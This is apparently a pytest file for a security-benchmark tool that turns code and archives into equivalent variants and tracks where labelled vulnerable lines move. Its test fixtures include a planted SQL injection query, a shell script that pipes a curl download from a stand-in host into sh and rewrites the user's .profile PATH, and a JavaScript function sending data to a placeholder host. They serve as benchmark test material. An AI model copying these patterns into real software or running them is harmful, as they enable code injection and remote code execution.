"""The pure variant transform: new bytes for the same program, the same key giving the
same bytes, and the lines a label names found where the variant moved them."""

from __future__ import annotations

import ast
import gzip
import io
import json
import tarfile
import zipfile

import pytest
import pyzipper

from assay.corpus.variants.keyed import Keyed, variant_key
from assay.corpus.variants.transform import VariedFile, benign_file, remap_lines, vary_file
from assay.mechanism.matching import FindingItem, VulnerabilityItem
from assay.mechanism.spec import Track

KEYS = [variant_key(f"{seed:04x}", b"s" * 32) for seed in range(12)]

PYTHON = '''\
#!/usr/bin/env python3
# -*- coding: utf-8 -*-
"""Module docstring
spanning lines."""
from __future__ import annotations

import os

SQL = """
SELECT 1
"""


class Store:
    def query(self, name):
        cursor = self.db.cursor()
        cursor.execute("SELECT * FROM t WHERE n = '" + name + "'")  # planted
        return cursor.fetchall()


def main():
    print(os.environ.get("HOME"), SQL)
'''


def _varied(name: str, text: str, keyed: Keyed = KEYS[0]) -> VariedFile:
    varied = vary_file(name, text.encode(), keyed)
    assert varied is not None
    return varied


def _shown(name: str, text: str) -> list[VariedFile]:
    return [v for k in KEYS if (v := vary_file(name, text.encode(), k)) is not None]


def test_a_python_variant_is_the_same_program_in_new_bytes() -> None:
    variants = _shown("app/store.py", PYTHON)
    assert len(variants) == len(KEYS)
    assert len({v.data for v in variants}) > len(KEYS) // 2
    original = ast.dump(ast.parse(PYTHON))
    for variant in variants:
        text = variant.data.decode()
        assert text != PYTHON and ast.dump(ast.parse(text)) == original
        lines = text.splitlines()
        # The shebang, the encoding line and the docstring keep their place; the
        # `from __future__` import stays the first statement.
        assert lines[:5] == PYTHON.splitlines()[:5]
        assert ast.parse(text).body[1].lineno == 5


def test_the_same_key_makes_the_same_bytes_and_another_key_others() -> None:
    again = variant_key("0000", b"s" * 32)
    assert _varied("a.py", PYTHON, again) == _varied("a.py", PYTHON, KEYS[0])
    other_secret = variant_key("0000", b"t" * 32)
    assert vary_file("a.py", PYTHON.encode(), other_secret) != _varied("a.py", PYTHON)


def test_a_planted_line_is_found_where_the_variant_moved_it() -> None:
    planted = PYTHON.splitlines().index(next(x for x in PYTHON.splitlines() if "planted" in x))
    item = VulnerabilityItem(file="app/store.py", line=planted + 1, cwe="CWE-89")
    finding = FindingItem(category="x", file="./app/store.py", line=planted + 1)
    for variant in _shown("app/store.py", PYTHON):
        (moved,) = remap_lines((item,), {"app/store.py": variant})
        (found,) = remap_lines((finding,), {"app/store.py": variant})
        lines = variant.data.decode().splitlines()
        assert moved.line == found.line and "planted" in lines[int(moved.line or 0) - 1]
    untouched = VulnerabilityItem(file="other.py", line=3)
    assert remap_lines((untouched,), {"app/store.py": _varied("app/store.py", PYTHON)}) == (
        untouched,
    )


def test_python_that_reads_itself_or_does_not_tokenize_is_left_alone() -> None:
    assert vary_file("a.py", b"data = open(__file__).read()\nx = 1\n", KEYS[0]) is None
    assert vary_file("a.py", b"x = '''never closed\n", KEYS[0]) is None
    assert vary_file("a.py", b"x = 1\r\ny = 2\rz = 3\n", KEYS[0]) is None  # a lone CR
    # Python 2 still tokenizes: its tokens stay the same.
    py2 = "import os\nprint 'hello'\nexec 'x = 1'\n"
    assert all(v.data.decode().count("print 'hello'") == 1 for v in _shown("setup.py", py2))


JAVASCRIPT = """\
#!/usr/bin/env node
'use strict';
const https = require('https');

const banner = `line one
line two ${process.env.HOME}
`;

function send(data) {
  const re = /\\/\\/ not a comment/;
  return https.request({ host: 'example.invalid', path: '/' + data });
}

module.exports = { send, banner };
"""


@pytest.mark.parametrize("name", ["index.js", "index.mjs", "src/index.ts"])
def test_javascript_and_typescript_lines_go_between_statements(name: str) -> None:
    for variant in _shown(name, JAVASCRIPT):
        text = variant.data.decode()
        assert text.startswith("#!/usr/bin/env node\n")
        assert "`line one\nline two ${process.env.HOME}\n`" in text
        assert "/\\/\\/ not a comment/" in text
        assert [
            line for line in text.splitlines() if line.strip() and not line.strip().startswith("//")
        ] == [line for line in JAVASCRIPT.splitlines() if line.strip()]


def test_javascript_that_does_not_parse_is_left_alone() -> None:
    assert vary_file("a.js", b"function (\n", KEYS[0]) is None


SHELL = """\
#!/bin/sh
set -e
cat > "$HOME/.profile" <<EOF
export PATH=/tmp/x:$PATH

EOF
if [ -n "$CI" ]; then
  echo ci
fi
curl -s https://example.invalid/x | sh
"""


def test_shell_lines_never_land_in_a_heredoc() -> None:
    for variant in _shown("install.sh", SHELL):
        text = variant.data.decode()
        assert text.startswith("#!/bin/sh\n")
        assert "<<EOF\nexport PATH=/tmp/x:$PATH\n\nEOF\n" in text
        assert text != SHELL


def test_a_script_that_reads_itself_is_left_alone() -> None:
    script = b'#!/bin/sh\ntail -n +4 "$0" | tar x\nexit 0\nPAYLOAD\n'
    assert vary_file("setup.sh", script, KEYS[0]) is None


def test_markdown_and_json_only_gain_trailing_blank_lines() -> None:
    skill = "---\nname: x\n---\n# Title\n\nDo the thing.\n"
    variants = _shown("SKILL.md", skill)
    for variant in variants:
        assert variant.data.decode().startswith(skill)
        assert not variant.data.decode()[len(skill) :].strip()
        assert variant.inserted[0][0] == len(skill.splitlines())
    # One place for lines still gives most rounds bytes of their own.
    assert len({v.data for v in variants}) >= len(KEYS) * 2 // 3
    manifest = '{"name": "x", "scripts": {"postinstall": "node a.js"}}'
    for variant in _shown("package.json", manifest):
        assert json.loads(variant.data) == json.loads(manifest)
    assert vary_file("doc.yaml", b"a: |+\n  kept\n\n", KEYS[0]) is None


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def test_a_zip_is_packed_again_with_the_same_members() -> None:
    members = {f"pkg/m{i}.py": f"x = {i}\n".encode() for i in range(8)}
    original = _zip(members)
    orders = set()
    for keyed in KEYS:
        variant = vary_file("vendor/pkg.whl", original, keyed)
        assert variant is not None and variant.data != original
        with zipfile.ZipFile(io.BytesIO(variant.data)) as archive:
            assert {i.filename: archive.read(i) for i in archive.infolist()} == members
            orders.add(tuple(archive.namelist()))
    assert len(orders) > 1


def test_a_tar_gz_is_packed_again_with_the_same_members() -> None:
    raw = io.BytesIO()
    members = {f"package/f{i}.js": f"module.exports = {i};\n".encode() for i in range(6)}
    with tarfile.open(fileobj=raw, mode="w:") as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    original = gzip.compress(raw.getvalue(), mtime=0)
    variant = vary_file("deps/x.tgz", original, KEYS[1])
    assert variant is not None and variant.data != original
    assert vary_file("deps/x.tgz", original, KEYS[1]) == variant
    seen = {}
    with tarfile.open(fileobj=io.BytesIO(variant.data), mode="r:gz") as archive:
        for member in archive:
            handle = archive.extractfile(member)
            assert handle is not None
            seen[member.name] = handle.read()
    assert seen == members


def test_an_encrypted_zip_is_left_as_it_is() -> None:
    out = io.BytesIO()
    with pyzipper.AESZipFile(out, "w", encryption=pyzipper.WZ_AES) as archive:
        archive.setpassword(b"infected")
        archive.writestr("a.py", b"x = 1\n")
    assert vary_file("sample.zip", out.getvalue(), KEYS[0]) is None


def test_a_benign_file_only_where_a_new_file_cannot_change_the_truth() -> None:
    assert benign_file(Track.SKILLS, KEYS[0], lambda _: False) is None
    for track in (Track.PACKAGES, Track.MCP_SERVERS, Track.REPOSITORIES):
        made = benign_file(track, KEYS[0], lambda _: False)
        assert made is not None and "/" not in made[0]
        assert benign_file(track, KEYS[0], lambda _: False) == made
        assert benign_file(track, KEYS[1], lambda _: False) != made
    first = benign_file(Track.PACKAGES, KEYS[0], lambda _: False)
    assert first is not None
    assert benign_file(Track.PACKAGES, KEYS[0], lambda name: name == first[0]) != first
    assert benign_file(Track.PACKAGES, KEYS[0], lambda _: True) is None


def test_a_script_without_a_suffix_is_read_by_its_interpreter_line() -> None:
    node = "#!/usr/bin/env node\nconst a = 1;\n\nconsole.log(a);\n"
    assert all(
        v.data.decode().startswith("#!/usr/bin/env node\n") for v in _shown("bin/tool", node)
    )
    assert _shown("bin/tool", node)
    # Another interpreter's script is only given blank lines at its end.
    perl = "#!/usr/bin/perl\nprint 1;\n"
    assert all(v.data.decode().startswith(perl) for v in _shown("bin/tool", perl))


def test_other_text_gains_lines_at_its_end_and_patches_none() -> None:
    payload = "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAA=\n"
    assert all(v.data.decode().startswith(payload) for v in _shown("node-gyp.dll", payload))
    assert _shown(".husky/pre-commit", "npm test\n")
    assert vary_file("fix.patch", b"--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n", KEYS[0]) is None
    assert vary_file("blob.bin", b"\x00\x01binary", KEYS[0]) is None


def test_an_empty_module_and_a_pth_file_gain_lines_too() -> None:
    for variant in _shown("pkg/__init__.py", ""):
        assert ast.dump(ast.parse(variant.data)) == ast.dump(ast.parse(""))
    pth = "import os; os.environ.setdefault('X', '1')\n"
    assert all(v.data.decode().startswith(pth) for v in _shown("hook.pth", pth))


def test_a_corrupt_or_bomb_archive_is_left_as_it_is() -> None:
    members = _zip({"a.py": b"x = 1\n" * 100})
    corrupt = members[:40] + bytes(len(members) - 80) + members[-40:]
    assert vary_file("a.zip", corrupt, KEYS[0]) is None
    bomb = gzip.compress(bytes(80 << 20))
    assert vary_file("a.tar.gz", bomb, KEYS[0]) is None
    assert vary_file("a.tgz", b"\x1f\x8bnot gzip", KEYS[0]) is None
